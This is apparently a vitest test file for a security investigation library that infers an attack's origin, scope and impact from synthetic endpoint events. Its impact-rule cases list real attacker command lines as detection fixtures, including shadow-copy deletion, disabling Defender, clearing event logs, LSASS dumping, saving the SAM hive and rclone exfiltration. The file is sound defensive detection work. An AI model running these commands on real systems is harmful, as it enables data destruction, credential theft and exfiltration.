import { describe, expect, it } from 'vitest';
import { assessInvestigation, IMPACT_RULES, InvestigationError } from '../src/index.js';

/** A minimal Process Activity: Launch as the Windows normaliser writes it. */
function launch(
  uid: string,
  time: number,
  image: string,
  parent: { uid: string; image: string },
  cmdLine = image,
): Record<string, unknown> {
  const name = image.split('\\').pop();
  return {
    class_uid: 1007,
    activity_id: 1,
    time,
    metadata: { uid: `launch-${uid}` },
    device: { hostname: 'WS-7' },
    process: {
      uid,
      pid: time % 10_000,
      name,
      cmd_line: cmdLine,
      file: { name, path: image },
      user: { domain: 'CORP', name: 'eve' },
      parent_process: {
        uid: parent.uid,
        name: parent.image.split('\\').pop(),
        file: { path: parent.image },
      },
    },
  };
}

describe('origin', () => {
  it('links a browser download to its launch (browser-download, T1204.002) and walks to the finding', () => {
    const browser = { uid: 'p-chrome', image: 'C:\\Program Files\\Google\\Chrome\\chrome.exe' };
    const events = [
      launch('p-chrome', 1000, browser.image, {
        uid: 'p-explorer',
        image: 'C:\\Windows\\explorer.exe',
      }),
      {
        class_uid: 1001,
        activity_id: 1,
        time: 2000,
        metadata: { uid: 'write-1' },
        device: { hostname: 'WS-7' },
        actor: { process: { uid: 'p-chrome', name: 'chrome.exe', file: { path: browser.image } } },
        file: { path: 'C:\\Users\\eve\\Documents\\invoice.exe', name: 'invoice.exe' },
      },
      launch('p-invoice', 3000, 'C:\\Users\\eve\\Documents\\invoice.exe', {
        uid: 'p-explorer',
        image: 'C:\\Windows\\explorer.exe',
      }),
      launch(
        'p-cmd',
        4000,
        'C:\\Windows\\System32\\cmd.exe',
        { uid: 'p-invoice', image: 'C:\\Users\\eve\\Documents\\invoice.exe' },
        'cmd /c whoami',
      ),
      {
        class_uid: 2004,
        activity_id: 1,
        time: 5000,
        finding_info: { uid: 'f-1', title: 'Suspicious child of invoice.exe' },
        device: { hostname: 'WS-7' },
        evidences: [{ process: { uid: 'p-cmd' } }],
      },
    ];
    const { origin, scope } = assessInvestigation({ events });
    expect(origin).toMatchObject({
      initialAccess: 'browser-download',
      technique: 'T1204.002',
      host: 'WS-7',
      user: 'CORP\\eve',
      time: 2000,
    });
    expect(origin?.evidence).toEqual(['write-1', 'launch-p-invoice']);
    expect(scope.files).toEqual(['C:\\Users\\eve\\Documents\\invoice.exe']);
    expect(scope.users).toEqual(['CORP\\eve']);
    expect(scope).toMatchObject({ firstSeen: 1000, lastSeen: 5000, hosts: ['WS-7'] });
  });

  it('without an initial-access signal, starts at the oldest launch in the ancestry of the first finding', () => {
    const events = [
      launch('p-a', 1000, 'C:\\Tools\\a.exe', {
        uid: 'p-root',
        image: 'C:\\Windows\\services.exe',
      }),
      launch('p-b', 2000, 'C:\\Tools\\b.exe', { uid: 'p-a', image: 'C:\\Tools\\a.exe' }),
      launch('p-c', 3000, 'C:\\Tools\\c.exe', { uid: 'p-b', image: 'C:\\Tools\\b.exe' }),
      {
        class_uid: 2004,
        time: 4000,
        finding_info: { uid: 'f-9', title: 'c.exe beaconing' },
        device: { hostname: 'WS-7' },
        actor: { process: { uid: 'p-c' } },
      },
    ];
    const { origin } = assessInvestigation({ events });
    expect(origin?.initialAccess).toBe('unknown');
    expect(origin?.time).toBe(1000);
    expect(origin?.evidence).toEqual(['launch-p-a', 'launch-p-b', 'launch-p-c', 'f-9']);
    expect(origin?.summary).toContain('C:\\Windows\\services.exe');
  });

  it('calls a logon from an outside address remote-logon, one from inside not', () => {
    const logon = (ip: string, uid: string) => ({
      class_uid: 3002,
      activity_id: 1,
      time: 100,
      status_id: 1,
      logon_type_id: 10,
      metadata: { uid },
      device: { hostname: 'JUMP-1' },
      user: { name: 'admin', domain: 'CORP' },
      src_endpoint: { ip },
    });
    expect(assessInvestigation({ events: [logon('198.51.100.4', 'l-1')] }).origin).toMatchObject({
      initialAccess: 'remote-logon',
      technique: 'T1133',
      evidence: ['l-1'],
      host: 'JUMP-1',
    });
    expect(assessInvestigation({ events: [logon('10.1.2.3', 'l-2')] }).origin?.initialAccess).toBe(
      'unknown',
    );
    expect(assessInvestigation({ events: [] })).toEqual({
      scope: {
        hosts: [],
        users: [],
        accounts: [],
        ips: [],
        domains: [],
        files: [],
        resources: [],
        firstSeen: null,
        lastSeen: null,
      },
      origin: null,
      impact: [],
    });
  });
});

describe('impact rules', () => {
  it('are named, typed and unique', () => {
    const names = IMPACT_RULES.map((rule) => rule.name);
    expect(new Set(names).size).toBe(names.length);
    for (const rule of IMPACT_RULES) expect(rule.technique ?? 'T0').toMatch(/^T\d{4}(\.\d{3})?$/);
  });

  it.each([
    ['vssadmin.exe delete shadows /all /quiet', 'destruction', 'T1490'],
    ['bcdedit /set {default} recoveryenabled No', 'destruction', 'T1490'],
    [
      'powershell Set-MpPreference -DisableRealtimeMonitoring $true',
      'defense-evasion',
      'T1562.001',
    ],
    ['wevtutil cl Security', 'defense-evasion', 'T1070.001'],
    ['schtasks /create /tn upd /tr c:\\p\\u.exe /sc onlogon', 'persistence', 'T1053.005'],
    [
      'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full',
      'credential-access',
      'T1003',
    ],
    ['reg save HKLM\\SAM C:\\temp\\sam.save', 'credential-access', 'T1003.002'],
    ['7z.exe a -p secret c:\\temp\\out.7z c:\\finance', 'data-staged', 'T1560.001'],
    ['rclone.exe copy c:\\finance remote:bucket', 'data-exfiltrated', 'T1567'],
    ['wmic /node:10.0.0.5 process call create "cmd /c calc"', 'lateral-movement', 'T1047'],
  ])('%s → %s %s', (cmdLine, kind, technique) => {
    const events = [
      launch(
        'p-1',
        10,
        'C:\\Windows\\System32\\cmd.exe',
        { uid: 'p-0', image: 'C:\\Windows\\explorer.exe' },
        cmdLine,
      ),
    ];
    const { impact } = assessInvestigation({ events });
    expect(
      impact.find((marker) => marker.kind === kind && marker.technique === technique)?.evidence,
    ).toEqual(['launch-p-1']);
  });

  it('leaves ordinary command lines alone', () => {
    const events = [
      launch(
        'p-1',
        10,
        'C:\\Windows\\System32\\cmd.exe',
        { uid: 'p-0', image: 'C:\\Windows\\explorer.exe' },
        'cmd /c dir c:\\users',
      ),
      launch(
        'p-2',
        20,
        'C:\\Windows\\System32\\notepad.exe',
        { uid: 'p-0', image: 'C:\\Windows\\explorer.exe' },
        'notepad readme.txt',
      ),
    ];
    expect(assessInvestigation({ events }).impact).toEqual([]);
  });

  it('sums the sizes of archives written for data-staged', () => {
    const write = (uid: string, path: string, size: number) => ({
      class_uid: 1001,
      activity_id: 1,
      time: 50,
      metadata: { uid },
      device: { hostname: 'FS-1' },
      file: { path, size },
    });
    const { impact } = assessInvestigation({
      events: [write('w-1', 'D:\\out\\a.zip', 700), write('w-2', 'D:\\out\\b.7z', 300)],
    });
    expect(impact).toEqual([
      expect.objectContaining({
        kind: 'data-staged',
        bytes: 1000,
        evidence: ['w-1', 'w-2'],
        hosts: ['FS-1'],
      }),
    ]);
  });

  it('rejects entry ids that do not match the events, and bad bounds', () => {
    const events = [{ class_uid: 0, time: 1 }];
    expect(() => assessInvestigation({ events, entryIds: [] })).toThrow(InvestigationError);
    expect(() => assessInvestigation({ events, exfiltrationBytes: 0 })).toThrow(InvestigationError);
    expect(() => assessInvestigation({ events, evidenceLimit: 0 })).toThrow(InvestigationError);
  });
});
